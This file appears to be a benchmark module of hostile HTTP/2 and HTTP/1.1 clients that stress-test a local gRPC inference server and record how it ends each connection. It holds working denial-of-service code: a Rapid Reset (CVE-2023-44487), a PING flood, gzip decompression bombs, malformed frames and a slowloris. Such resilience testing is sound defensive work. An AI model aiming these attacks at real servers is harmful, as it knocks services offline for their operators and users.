"""Hostile clients for :mod:`benchmarks.hostile_soak`: each attack opens a fresh connection,
does its harm, notes how the server ended it, and closes.

Frames are built with python-hyper's ``hyperframe`` and header blocks with ``hpack``;
frames a real client never sends are written by hand where hyperframe refuses to build
them (a WINDOW_UPDATE of 0, SETTINGS on a stream). Every socket has a timeout and every
loop a bound, so an attack ends in a few seconds whatever the server does.

Each attack returns its outcome as a short label: ``GOAWAY ENHANCE_YOUR_CALM``,
``RST_STREAM REFUSED_STREAM``, ``grpc-status 3``, ``HTTP 408``, ``closed by the server``,
``stopped reading``, ``left open`` ...
"""

from __future__ import annotations

import contextlib
import functools
import gzip
import socket
import struct
import time
from collections.abc import Callable

import hpack
from hyperframe import frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
ERRORS = {
    0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
    0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL",
    0xB: "ENHANCE_YOUR_CALM",
}  # fmt: skip
REQUEST = [
    (":method", "POST"), (":scheme", "http"),
    (":path", "/inference.GRPCInferenceService/ModelInfer"), (":authority", "localhost"),
    ("content-type", "application/grpc"), ("te", "trailers"),
]  # fmt: skip


def _raw(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    """A frame hyperframe will not build (it checks what the server is meant to check)."""
    return struct.pack(">I B I", len(payload) << 8 | kind, flags, stream_id) + payload


def _code_name(code: int) -> str:
    return ERRORS.get(code, hex(code))


class H2:
    """One HTTP/2 connection, frame by frame: enough of a client to attack with and to read
    how the server answered (it ACKs SETTINGS and PINGs and tracks the send windows, as a
    client must for its DATA to be read at all)."""

    def __init__(
        self, port: int, *, timeout: float = 5.0, rcvbuf: int | None = None, mute: bool = False
    ) -> None:
        """``mute``: answer nothing (not even the server's SETTINGS)."""
        self.mute = mute
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:  # before connect, so the window the kernel offers is small
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(timeout)
        self.sock.connect(("127.0.0.1", port))
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buffer = b""
        self.eof = False
        self.goaway: int | None = None
        self.resets: dict[int, int] = {}
        self.trailers: dict[int, dict[str, str]] = {}
        self.ping_acks = 0
        self.window = 65_535  # the connection's send window
        self.initial_window = 65_535
        self.stream_windows: dict[int, int] = {}

    def close(self) -> None:
        self.sock.close()

    def start(self) -> None:
        self.send(PREFACE + hf.SettingsFrame(0).serialize())

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def opening(self, stream_id: int, fields: list[tuple[str, str]] = REQUEST) -> bytes:
        self.stream_windows[stream_id] = self.initial_window
        block = self.encoder.encode(fields)
        return hf.HeadersFrame(stream_id, block, flags=["END_HEADERS"]).serialize()

    def send_data(self, stream_id: int, payload: bytes, *, end: bool, deadline: float) -> None:
        """``payload`` in DATA frames within the windows, reading WINDOW_UPDATEs as needed."""
        at = 0
        while at < len(payload) or (end and at == 0 == len(payload)):
            room = min(16_384, self.window, self.stream_windows.get(stream_id, 0))
            if room <= 0 and at < len(payload):
                if self.eof or time.monotonic() > deadline or not self.read_frame(deadline):
                    raise TimeoutError("the server gave no window back")
                continue
            piece = payload[at : at + room]
            at += len(piece)
            flags = ["END_STREAM"] if end and at >= len(payload) else []
            self.send(hf.DataFrame(stream_id, piece, flags=flags).serialize())
            self.window -= len(piece)
            self.stream_windows[stream_id] = self.stream_windows.get(stream_id, 0) - len(piece)
            if not payload:
                break

    def read_frame(self, deadline: float) -> bool:
        """Read one frame and take note of it; False at EOF or past the deadline."""
        while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3]):
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return False
            self.sock.settimeout(remaining)
            try:
                chunk = self.sock.recv(1 << 16)
            except TimeoutError:
                return False
            except OSError:
                chunk = b""
            if not chunk:
                self.eof = True
                return False
            self.buffer += chunk
        length = int.from_bytes(self.buffer[:3])
        kind, flags = self.buffer[3], self.buffer[4]
        stream_id = int.from_bytes(self.buffer[5:9]) & 0x7FFF_FFFF
        payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
        self._take(kind, flags, stream_id, payload)
        return True

    def _take(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        reply = b""
        if kind == SETTINGS and not flags & 0x1:
            for at in range(0, len(payload) - 5, 6):
                key, value = struct.unpack_from(">HI", payload, at)
                if key == 0x4:
                    for open_id in self.stream_windows:
                        self.stream_windows[open_id] += value - self.initial_window
                    self.initial_window = value
            reply = hf.SettingsFrame(0, flags=["ACK"]).serialize()
        elif kind == PING and not flags & 0x1:
            reply = hf.PingFrame(0, opaque_data=payload, flags=["ACK"]).serialize()
        elif kind == PING:
            self.ping_acks += 1
        elif kind == WINDOW_UPDATE and len(payload) == 4:
            increment = int.from_bytes(payload) & 0x7FFF_FFFF
            if stream_id == 0:
                self.window += increment
            elif stream_id in self.stream_windows:
                self.stream_windows[stream_id] += increment
        elif kind == GOAWAY and len(payload) >= 8:
            self.goaway = struct.unpack(">II", payload[:8])[1]
        elif kind == RST_STREAM and len(payload) == 4:
            self.resets[stream_id] = int.from_bytes(payload)
        elif kind == HEADERS and flags & 0x1 and flags & 0x4:  # trailers (or trailers-only)
            with contextlib.suppress(Exception):  # hpack errors: the outcome says "closed"
                self.trailers[stream_id] = {
                    str(name): str(value) for name, value in self.decoder.decode(payload)
                }
        elif kind == HEADERS and flags & 0x4:
            with contextlib.suppress(Exception):  # keep the decoder's table in step
                self.decoder.decode(payload)
        elif kind == DATA and payload:  # give the window back, as a reading client does
            increment = len(payload)
            reply = (
                hf.WindowUpdateFrame(0, window_increment=increment).serialize()
                + hf.WindowUpdateFrame(stream_id, window_increment=increment).serialize()
            )
        if reply and not self.mute:
            with contextlib.suppress(OSError):  # the server may have closed already
                self.send(reply)

    def until(self, done: Callable[[], bool], seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while not done() and self.read_frame(deadline):
            pass

    def outcome(self, otherwise: str) -> str:
        if self.goaway is not None:
            return f"GOAWAY {_code_name(self.goaway)}"
        if self.resets:
            return f"RST_STREAM {_code_name(next(iter(self.resets.values())))}"
        if self.trailers:
            return f"grpc-status {next(iter(self.trailers.values())).get('grpc-status', '?')}"
        return "closed by the server" if self.eof else otherwise


def _attack(
    port: int, body: Callable[[H2], str], *, rcvbuf: int | None = None, mute: bool = False
) -> str:
    connection = H2(port, rcvbuf=rcvbuf, mute=mute)
    try:
        return body(connection)
    except (BrokenPipeError, ConnectionResetError):
        connection.until(lambda: False, 1.0)  # a GOAWAY may be in the buffer
        return connection.outcome("closed by the server")
    finally:
        connection.close()


def rapid_reset(port: int) -> str:
    """1,500 streams opened and reset at once (CVE-2023-44487)."""

    def body(h2: H2) -> str:
        h2.start()
        for start in range(1, 2 * 1500, 2 * 100):
            batch = b"".join(
                h2.opening(stream_id) + hf.RstStreamFrame(stream_id, error_code=8).serialize()
                for stream_id in range(start, start + 2 * 100, 2)
            )
            h2.send(batch)
        h2.until(lambda: h2.goaway is not None, 3.0)
        return h2.outcome("served to the end")

    return _attack(port, body)


def ping_flood(port: int) -> str:
    """PINGs sent as fast as the socket takes them, their ACKs never read, for up to 1 s."""

    def body(h2: H2) -> str:
        h2.start()
        pings = hf.PingFrame(0, opaque_data=bytes(8)).serialize() * 1000
        h2.sock.settimeout(0.5)
        deadline = time.monotonic() + 1.0
        try:
            while time.monotonic() < deadline:
                h2.send(pings)
        except TimeoutError:
            return "stopped reading" if h2.goaway is None else h2.outcome("")
        h2.until(lambda: h2.goaway is not None, 2.0)  # now read: how did it end?
        return h2.outcome("read every PING")

    return _attack(port, body, rcvbuf=4096)


def open_streams_and_leave(port: int) -> str:
    """200 calls opened, each with half its message sent, then the connection dropped."""

    def body(h2: H2) -> str:
        h2.start()
        half = b"\x00" + (64).to_bytes(4) + bytes(32)
        h2.send(
            b"".join(
                h2.opening(stream_id) + hf.DataFrame(stream_id, half).serialize()
                for stream_id in range(1, 2 * 200, 2)
            )
        )
        h2.until(lambda: False, 0.2)
        return h2.outcome("left open")

    return _attack(port, body)


def silent(port: int) -> str:
    """A connection that never sends a byte: the handshake timeout must close it."""

    def body(h2: H2) -> str:
        started = time.monotonic()
        h2.until(lambda: False, 10.0)
        waited = time.monotonic() - started
        return f"closed after {waited:.0f} s" if h2.eof else "still open after 10 s"

    return _attack(port, body, mute=True)


@functools.cache
def _gzip_bomb() -> bytes:
    """A gRPC message of 7 KiB that inflates to 7 MiB of zeros."""
    bomb = gzip.compress(bytes(7 * 1024 * 1024))
    return b"\x01" + len(bomb).to_bytes(4) + bomb


def gzip_bombs_left_open(port: int) -> str:
    """8 calls each send a gzip message that inflates 1000x, and never end their stream."""

    def body(h2: H2) -> str:
        h2.start()
        deadline = time.monotonic() + 5.0
        for stream_id in range(1, 2 * 8, 2):
            h2.send(h2.opening(stream_id, [*REQUEST, ("grpc-encoding", "gzip")]))
            h2.send_data(stream_id, _gzip_bomb(), end=False, deadline=deadline)
        h2.send(hf.PingFrame(0, opaque_data=b"bombsent").serialize())
        h2.until(lambda: h2.ping_acks > 0 or h2.goaway is not None, 3.0)
        return h2.outcome("read, left open" if h2.ping_acks else "no PING ACK")

    return _attack(port, body)


@functools.cache
def _zeros_4mib() -> bytes:
    return b"\x00" + (4 * 1024 * 1024).to_bytes(4) + bytes(4 * 1024 * 1024)


def zeros_4mib(port: int) -> str:
    """A 4 MiB ModelInfer message of zero bytes (field number 0: not protobuf)."""

    def body(h2: H2) -> str:
        h2.start()
        h2.send(h2.opening(1))
        h2.send_data(1, _zeros_4mib(), end=True, deadline=time.monotonic() + 10.0)
        h2.until(lambda: 1 in h2.trailers or 1 in h2.resets or h2.goaway is not None, 5.0)
        return h2.outcome("no answer")

    return _attack(port, body)


def bad_window_update(port: int) -> str:
    """A WINDOW_UPDATE of 0 on the connection (RFC 9113 6.9: PROTOCOL_ERROR)."""

    def body(h2: H2) -> str:
        h2.start()
        h2.send(_raw(WINDOW_UPDATE, 0, 0, bytes(4)))
        h2.until(lambda: h2.goaway is not None, 3.0)
        return h2.outcome("ignored")

    return _attack(port, body)


def settings_on_a_stream(port: int) -> str:
    """SETTINGS on stream 1 (RFC 9113 6.5: PROTOCOL_ERROR)."""

    def body(h2: H2) -> str:
        h2.start()
        h2.send(_raw(SETTINGS, 0, 1, b""))
        h2.until(lambda: h2.goaway is not None, 3.0)
        return h2.outcome("ignored")

    return _attack(port, body)


def slow_http_headers(http_port: int) -> str:
    """HTTP/1.1: half a request head, then a byte every 0.5 s (slowloris), for up to 10 s."""
    sock = socket.create_connection(("127.0.0.1", http_port), timeout=0.5)
    try:
        sock.sendall(b"POST /v2/models/tiny/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        received = b""
        deadline = time.monotonic() + 10.0
        while time.monotonic() < deadline:
            try:
                sock.sendall(b"a")
                chunk = sock.recv(65536)
            except TimeoutError:
                continue  # nothing yet: dribble on (recv waited 0.5 s)
            except OSError:
                break
            if not chunk:
                break
            received += chunk
        if received.startswith(b"HTTP/1.1 "):
            return f"HTTP {received[9:12].decode(errors='replace')}"
        return "closed by the server" if time.monotonic() < deadline else "still open after 10 s"
    finally:
        sock.close()


H2_ATTACKS: dict[str, Callable[[int], str]] = {
    "rapid reset": rapid_reset,
    "PING flood, not read": ping_flood,
    "200 streams opened and left": open_streams_and_leave,
    "silent connection": silent,
    "gzip 1000x left open": gzip_bombs_left_open,
    "4 MiB of zeros": zeros_4mib,
    "WINDOW_UPDATE of 0": bad_window_update,
    "SETTINGS on a stream": settings_on_a_stream,
}
HTTP_ATTACKS: dict[str, Callable[[int], str]] = {"slow HTTP/1.1 head": slow_http_headers}
